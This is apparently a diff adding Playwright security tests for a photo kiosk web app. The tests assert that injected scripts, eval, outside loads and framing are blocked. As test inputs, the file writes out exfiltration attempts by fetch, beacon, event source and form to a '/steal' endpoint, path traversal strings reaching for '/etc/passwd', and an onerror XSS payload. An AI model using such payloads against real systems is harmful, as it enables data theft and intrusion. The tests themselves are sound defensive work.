@@ -1,0 +1,147 @@
+/** What a script that got into the page could try next. Each attack is carried out, and must fail. */
+import type { Page } from '@playwright/test';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { comeToTheTakenShot, startOrder } from './support/order.ts';
+import { expect, test as base } from './support/test.ts';
+
+/** A place beyond the kiosk that notes who came. No test may bring anyone there. */
+const test = base.extend<{ readonly elsewhere: string }>({
+  elsewhere: async ({}, use) => {
+    const visitors: string[] = [];
+    const server = createServer((request, response) => {
+      visitors.push(`${request.method ?? ''} ${request.url ?? ''}`);
+      response.writeHead(200, { 'content-type': 'image/svg+xml', 'access-control-allow-origin': '*' });
+      response.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
+    expect(visitors, 'requests that left the kiosk').toEqual([]);
+    server.closeAllConnections();
+    server.close();
+  },
+});
+
+/** Puts an element into the page, and gives the policy's directive that refused what it asks for. */
+function refusalOf(page: Page, tag: string, attributes: Readonly<Record<string, string>>, text = ''): Promise<string> {
+  return page.evaluate(
+    ([name, given, content]) =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), {
+          once: true,
+        });
+        const element = document.createElement(name);
+        for (const [key, value] of Object.entries(given)) element.setAttribute(key, value);
+        element.textContent = content;
+        document.body.append(element);
+      }),
+    [tag, attributes, text] as const,
+  );
+}
+
+test('the page knows no Node, and no cookie or token of the door', async ({ page }) => {
+  const found = await page.evaluate(() => ({
+    node: ['require', 'process', 'module', 'Buffer', '__dirname'].filter((name) => name in globalThis),
+    cookie: document.cookie,
+    address: location.href,
+  }));
+  expect(found).toMatchObject({ node: [], cookie: '' });
+  expect(found.address).not.toContain('token');
+});
+
+test('inline script, eval and style are refused', async ({ page }) => {
+  expect(await refusalOf(page, 'script', {}, 'globalThis.broken = true')).toBe('script-src-elem');
+  expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
+  // In a task of its own: the debugger may evaluate, and so could what runs in its own task.
+  const evaluated = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        setTimeout(() => {
+          try {
+            resolve(String(globalThis.eval('"ran"')));
+          } catch (error) {
+            resolve(error instanceof Error ? error.name : 'refused');
+          }
+        });
+      }),
+  );
+  expect(evaluated).toBe('EvalError');
+  expect(await refusalOf(page, 'style', {}, 'body { display: none }')).toBe('style-src-elem');
+  await expect(page.getByRole('button', { name: 'New order' })).toBeVisible();
+});
+
+test('nothing is loaded from elsewhere', async ({ page, elsewhere }) => {
+  expect(await refusalOf(page, 'img', { src: `${elsewhere}/pixel.svg` })).toBe('img-src');
+  expect(await refusalOf(page, 'script', { src: `${elsewhere}/script.js` })).toBe('script-src-elem');
+  expect(await refusalOf(page, 'link', { rel: 'stylesheet', href: `${elsewhere}/style.css` })).toBe('style-src-elem');
+  expect(await refusalOf(page, 'iframe', { src: `${elsewhere}/frame.html` })).toBe('frame-src');
+});
+
+test('nothing is sent elsewhere: not by fetch, beacon, event source, socket or form', async ({ page, elsewhere }) => {
+  const outcomes = await page.evaluate(async (address) => {
+    const directives: string[] = [];
+    document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
+    const fetched = await fetch(`${address}/steal`, { method: 'POST', body: 'x' }).then(
+      () => 'sent',
+      (error: unknown) => (error instanceof Error ? error.name : 'refused'),
+    );
+    navigator.sendBeacon(`${address}/steal`, 'x');
+    new EventSource(`${address}/steal`).close();
+    const form = document.createElement('form');
+    Object.assign(form, { action: `${address}/steal`, method: 'post' });
+    document.body.append(form);
+    form.submit();
+    // Reports come in tasks of their own.
+    while (!directives.includes('form-action')) await new Promise((resolve) => setTimeout(resolve, 10));
+    return { fetched, directives };
+  }, elsewhere);
+  expect(outcomes.fetched).toBe('TypeError');
+  expect(outcomes.directives).toEqual(expect.arrayContaining(['connect-src', 'form-action']));
+});
+
+test('pictures and calls are for this page only, and the photo route knows ids and no paths', async ({
+  page,
+  request,
+}) => {
+  await comeToTheTakenShot(page);
+  const source = await page.getByRole('img', { name: 'The shot as it was taken' }).getAttribute('src');
+  const picture = new URL(source ?? '', page.url());
+  expect((await page.request.get(picture.href)).status()).toBe(200);
+  expect((await request.get(picture.href)).status(), 'without the cookie').toBe(401);
+  const headers = { origin: 'http://photos.example' };
+  expect((await page.request.post(`${picture.origin}/call/desk`, { headers })).status()).toBe(403);
+
+  for (const path of ['../package.json', '..%2f..%2fpackage.json', '/etc/passwd', 'C:%5cx', '%00', 'img_0']) {
+    const { status, body } = await page.evaluate(async (address) => {
+      const response = await fetch(address);
+      return { status: response.status, body: await response.text() };
+    }, `${picture.origin}/photo/${path}`);
+    expect(status, path).toBeGreaterThanOrEqual(400);
+    expect(body, path).not.toContain('headroom');
+  }
+});
+
+test('no one else may frame the kiosk, and a window that it opens has no way back', async ({ page, context }) => {
+  const kiosk = new URL(page.url()).origin;
+  await context.route('http://thief.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${kiosk}/"></iframe>` }),
+  );
+  const opened = context.waitForEvent('page');
+  await page.evaluate(() => void window.open('http://thief.example/'));
+  const thief = await opened;
+  // Chromium shows an error page of its own in the place of what may not be framed.
+  await expect.poll(() => thief.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
+  expect(await thief.evaluate(() => ({ opener: window.opener as unknown, referrer: document.referrer }))).toEqual({
+    opener: null,
+    referrer: '',
+  });
+});
+
+test('a name that is markup is shown as the text that it is', async ({ page }) => {
+  await startOrder(page);
+  const name = '<img src=x onerror="globalThis.broken=true"><b>Bold</b>';
+  await page.getByLabel('Name', { exact: true }).fill(name);
+  await page.getByRole('button', { name: /^Choose the document/ }).click();
+  await expect(page.getByRole('complementary', { name: 'About this order' })).toContainText(name);
+  expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
+});
